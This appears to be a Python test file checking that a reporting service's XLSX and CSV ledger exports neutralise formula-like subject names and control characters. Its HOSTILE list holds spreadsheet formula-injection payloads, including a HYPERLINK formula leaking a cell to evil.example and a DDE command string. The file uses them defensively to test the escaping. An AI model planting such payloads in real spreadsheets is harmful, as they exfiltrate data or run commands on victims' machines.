"""Exports never run what a case holds and never fail on it: a subject named like a spreadsheet formula is
written as text (XLSX) or neutralised (CSV), and a control character an old event carries is printed as its
visible symbol instead of failing the workbook."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from contracts.jurisdictions import default_registry
from services.reporting.domain.exports import cell_value, csv_bytes, csv_cell, export_bytes, xlsx_bytes
from services.reporting.domain.tables import Table, ledger_table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def ledger_with(names: list[str]) -> Table:
    """The 动态管理台账 of 龙岗街道 with one case per subject name."""
    rows: list[dict[str, object]] = [
        {
            "case_id": f"00000000-0000-0000-0000-{n:012d}",
            "jurisdiction": "340102L01",
            "status": "reported",
            "source": "grid_patrol",
            "subject_name": name,
            "sector": "elderly_care",
            "reported_at": datetime(2026, 10, 3, tzinfo=UTC),
            "estimated_amount_yuan": -5 if n == 0 else 1000,
            "key_case": False,
            "measures": [],
            "transferred_to_police": False,
            "written_off": False,
        }
        for n, name in enumerate(names)
    ]
    table = ledger_table("ledger", rows, default_registry())
    table.meta.update({"jurisdiction": "340102L01", "jurisdiction_name": "龙岗街道", "period": "2026-10"})
    return table


def test_a_subject_named_like_a_formula_is_text_in_the_workbook() -> None:
    table = ledger_with(HOSTILE)
    body = xlsx_bytes([table])
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    names = [sheet.cell(row=4 + n, column=4) for n in range(len(HOSTILE))]
    # (XML reads a carriage return back as a line feed.)
    assert [c.value for c in names] == [name.replace("\r", "\n") for name in HOSTILE]
    assert all(c.data_type == "s" for c in names)
    # The sheet's XML holds no formula at all, and no error cell.
    xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml and 't="e"' not in xml
    # Numbers stay numbers.
    assert sheet.cell(row=4, column=9).value == -5


def test_a_subject_named_like_a_formula_is_neutralised_in_csv() -> None:
    table = ledger_with(HOSTILE)
    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode("utf-8-sig"))))
    names = [row[3] for row in rows[1:]]
    assert names == ["'" + name if name[0] in "=+-@\t\r" else name for name in HOSTILE]
    assert all(not name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)
    # A number is no text: a negative amount stays a number.
    assert rows[1][8] == "-5"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
def test_csv_cells_starting_with_a_formula_trigger_get_a_quote(value: str) -> None:
    assert csv_cell(value) == "'" + value
    assert csv_cell("正常名称") == "正常名称"
    assert csv_cell(-3) == -3


def test_a_control_character_in_a_subject_name_does_not_fail_the_export() -> None:
    """Events recorded before intake refused control characters may hold them: each is printed as its
    visible symbol (U+2400 block), in both formats; tab, line feed and carriage return are kept."""
    names = ["合肥\x01某某投资\x1f公司", "换行\n名称", "退格\x08与\x0b\x0c"]
    table = ledger_with(names)
    sheet = load_workbook(io.BytesIO(export_bytes([table], "xlsx"))).active
    assert sheet is not None
    assert [sheet.cell(row=4 + n, column=4).value for n in range(3)] == [
        "合肥\u2401某某投资\u241f公司",
        "换行\n名称",
        "退格\u2408与\u240b\u240c",
    ]
    rows = list(csv.reader(io.StringIO(export_bytes([table], "csv").decode("utf-8-sig"))))
    assert rows[1][3] == "合肥\u2401某某投资\u241f公司"
    assert cell_value("a\x00b") == "a\u2400b"


def test_the_title_and_unit_lines_go_through_the_same_helper() -> None:
    table = ledger_with(["某公司"])
    table.meta["jurisdiction_name"] = "=龙岗\x02街道"
    sheet = load_workbook(io.BytesIO(xlsx_bytes([table]))).active
    assert sheet is not None
    unit = sheet.cell(row=2, column=1)
    assert unit.data_type == "s" and "=龙岗\u2402街道" in str(unit.value)
